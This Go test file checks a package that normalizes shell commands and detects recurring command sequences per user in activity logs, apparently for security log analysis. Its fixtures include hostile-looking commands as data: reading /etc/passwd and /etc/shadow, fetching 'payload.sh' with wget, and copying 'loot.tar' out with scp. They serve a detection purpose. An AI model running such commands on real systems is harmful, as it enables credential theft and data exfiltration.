package sequence

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"relgraph/pkg/models"
)

func TestNormalizeCommand(t *testing.T) {
	cases := map[string]string{
		"cat /etc/passwd":                  "cat <path>",
		"cat /etc/shadow":                  "cat <path>",
		"ls -la":                           "ls -la",
		"cd /tmp":                          "cd <path>",
		"wget http://10.0.0.5/payload.sh":  "wget <url>",
		"scp loot.tar 10.1.2.3":            "scp loot.tar <ip>",
		"curl -o out 10.0.0.8:8080 extra":  "curl -o out",
		"cp /tmp/a /tmp/b":                 "cp",
		"/usr/bin/whoami":                  "whoami",
		`C:\Windows\System32\cmd.exe /c x`: "cmd",
		"DIR C:temp":                       "dir <path>",
		"type report2024.txt":              "type report<num>.txt",
		"   ":                              "",
	}
	for in, want := range cases {
		assert.Equal(t, want, NormalizeCommand(in), in)
	}
}

func TestDetectRecurringPairAcrossDays(t *testing.T) {
	day1 := time.Date(2026, 4, 1, 10, 0, 0, 0, time.UTC)
	day2 := day1.Add(24 * time.Hour)
	logs := []models.LogRow{
		{ID: 1, Timestamp: day1, Username: "eve", Command: "cd /tmp"},
		{ID: 2, Timestamp: day1.Add(2 * time.Minute), Username: "eve", Command: "ls -la"},
		{ID: 3, Timestamp: day2, Username: "eve", Command: "cd /tmp"},
		{ID: 4, Timestamp: day2.Add(3 * time.Minute), Username: "eve", Command: "ls -la"},
	}

	got := New(0).Detect(logs)
	require.Len(t, got, 1)
	p := got[0]
	assert.Equal(t, "eve", p.Username)
	assert.Equal(t, []string{"cd <path>", "ls -la"}, p.Chain)
	assert.Equal(t, 2, p.Occurrences)
	assert.GreaterOrEqual(t, p.Confidence, 0.35)
	assert.InDelta(t, 150.0, p.AvgTimeDelta, 0.001)
	assert.Equal(t, int64(4), p.LogID)
	assert.Equal(t, []string{"cd /tmp", "ls -la"}, p.Commands)
	assert.True(t, p.FirstSeen.Equal(day1))
	assert.True(t, p.LastSeen.Equal(day2.Add(3*time.Minute)))

	in := p.Input(models.LogTags{4: {9}})
	assert.Equal(t, models.TypeCommandSequence, in.SourceType)
	assert.Equal(t, "cd <path>", in.SourceValue)
	assert.Equal(t, "ls -la", in.TargetValue)
	assert.Equal(t, []int64{9}, in.OperationTags)
	assert.Equal(t, int64(2), in.Occurrences)
	assert.Equal(t, 2, in.Metadata["occurrences"])
}

func TestDetectIgnoresPairsOutsideWindow(t *testing.T) {
	t0 := time.Date(2026, 4, 1, 10, 0, 0, 0, time.UTC)
	var logs []models.LogRow
	for i := 0; i < 3; i++ {
		base := t0.Add(time.Duration(i) * 24 * time.Hour)
		logs = append(logs,
			models.LogRow{ID: int64(2*i + 1), Timestamp: base, Username: "eve", Command: "whoami"},
			models.LogRow{ID: int64(2*i + 2), Timestamp: base.Add(20 * time.Minute), Username: "eve", Command: "hostname"},
		)
	}
	assert.Empty(t, New(0).Detect(logs))
}

func TestDetectSingleOccurrenceIsNotAPattern(t *testing.T) {
	t0 := time.Date(2026, 4, 1, 10, 0, 0, 0, time.UTC)
	logs := []models.LogRow{
		{ID: 1, Timestamp: t0, Username: "eve", Command: "whoami"},
		{ID: 2, Timestamp: t0.Add(time.Minute), Username: "eve", Command: "hostname"},
	}
	assert.Empty(t, New(0).Detect(logs))
}

func TestDetectSeparatesUsers(t *testing.T) {
	t0 := time.Date(2026, 4, 1, 10, 0, 0, 0, time.UTC)
	logs := []models.LogRow{
		{ID: 1, Timestamp: t0, Username: "eve", Command: "whoami"},
		{ID: 2, Timestamp: t0.Add(time.Minute), Username: "mallory", Command: "hostname"},
		{ID: 3, Timestamp: t0.Add(time.Hour), Username: "eve", Command: "whoami"},
		{ID: 4, Timestamp: t0.Add(time.Hour + time.Minute), Username: "mallory", Command: "hostname"},
	}
	assert.Empty(t, New(0).Detect(logs))
}

func TestDetectLongerChainsNeedIncreasingTimestamps(t *testing.T) {
	t0 := time.Date(2026, 4, 1, 10, 0, 0, 0, time.UTC)
	var logs []models.LogRow
	id := int64(0)
	for day := 0; day < 2; day++ {
		base := t0.Add(time.Duration(day) * 24 * time.Hour)
		for k, cmd := range []string{"whoami", "hostname", "ipconfig", "netstat"} {
			id++
			logs = append(logs, models.LogRow{ID: id, Timestamp: base.Add(time.Duration(k) * 5 * time.Minute), Username: "eve", Command: cmd})
		}
	}

	got := New(0).Detect(logs)
	lengths := map[int]int{}
	for _, p := range got {
		lengths[len(p.Chain)]++
	}
	assert.Equal(t, 3, lengths[2])
	assert.Equal(t, 2, lengths[3])
	assert.Equal(t, 1, lengths[4])

	// Same chain with two commands logged at the same instant.
	for i := range logs {
		if logs[i].Command == "ipconfig" {
			logs[i].Timestamp = logs[i-1].Timestamp
		}
	}
	for _, p := range New(0).Detect(logs) {
		if len(p.Chain) > 2 {
			assert.NotContains(t, p.Chain, "ipconfig", "chain %v crosses a tie", p.Chain)
		}
	}
}

func TestInputsFoldUsersSharingEndpoints(t *testing.T) {
	day1 := time.Date(2026, 4, 1, 10, 0, 0, 0, time.UTC)
	day2 := day1.Add(24 * time.Hour)
	logs := []models.LogRow{
		{ID: 1, Timestamp: day1, Username: "eve", Command: "cd /tmp"},
		{ID: 2, Timestamp: day1.Add(2 * time.Minute), Username: "eve", Command: "ls -la"},
		{ID: 3, Timestamp: day2, Username: "eve", Command: "cd /tmp"},
		{ID: 4, Timestamp: day2.Add(2 * time.Minute), Username: "eve", Command: "ls -la"},
		{ID: 5, Timestamp: day1.Add(time.Hour), Username: "mallory", Command: "cd /var/www"},
		{ID: 6, Timestamp: day1.Add(time.Hour + time.Minute), Username: "mallory", Command: "ls -la"},
		{ID: 7, Timestamp: day2.Add(time.Hour), Username: "mallory", Command: "cd /srv"},
		{ID: 8, Timestamp: day2.Add(time.Hour + time.Minute), Username: "mallory", Command: "ls -la"},
	}

	patterns := New(0).Detect(logs)
	require.Len(t, patterns, 2)

	inputs := Inputs(patterns, models.LogTags{8: {3}})
	require.Len(t, inputs, 1)
	in := inputs[0]
	assert.Equal(t, "cd <path>", in.SourceValue)
	assert.Equal(t, "ls -la", in.TargetValue)
	assert.Equal(t, int64(4), in.Occurrences)
	assert.Equal(t, int64(8), in.LogID)
	assert.Equal(t, []int64{3}, in.OperationTags)
	assert.True(t, in.FirstSeen.Equal(day1))
	assert.True(t, in.LastSeen.Equal(day2.Add(time.Hour+time.Minute)))
	assert.Equal(t, []string{"eve", "mallory"}, in.Metadata["usernames"])
}

func TestConfidenceIsMonotonicInOccurrences(t *testing.T) {
	deltas := []float64{60, 120, 90}
	for _, length := range []int{2, 3, 4} {
		prev := 0.0
		for occ := 2; occ <= 12; occ++ {
			c := Confidence(length, occ, deltas)
			assert.GreaterOrEqual(t, c, prev, "length %d occurrences %d", length, occ)
			assert.LessOrEqual(t, c, 1.0)
			prev = c
		}
	}
}

func TestThresholdLowersForLongerChains(t *testing.T) {
	assert.InDelta(t, 0.35, Threshold(2), 1e-9)
	assert.InDelta(t, 0.20, Threshold(3), 1e-9)
	assert.InDelta(t, 0.15, Threshold(4), 1e-9)
}
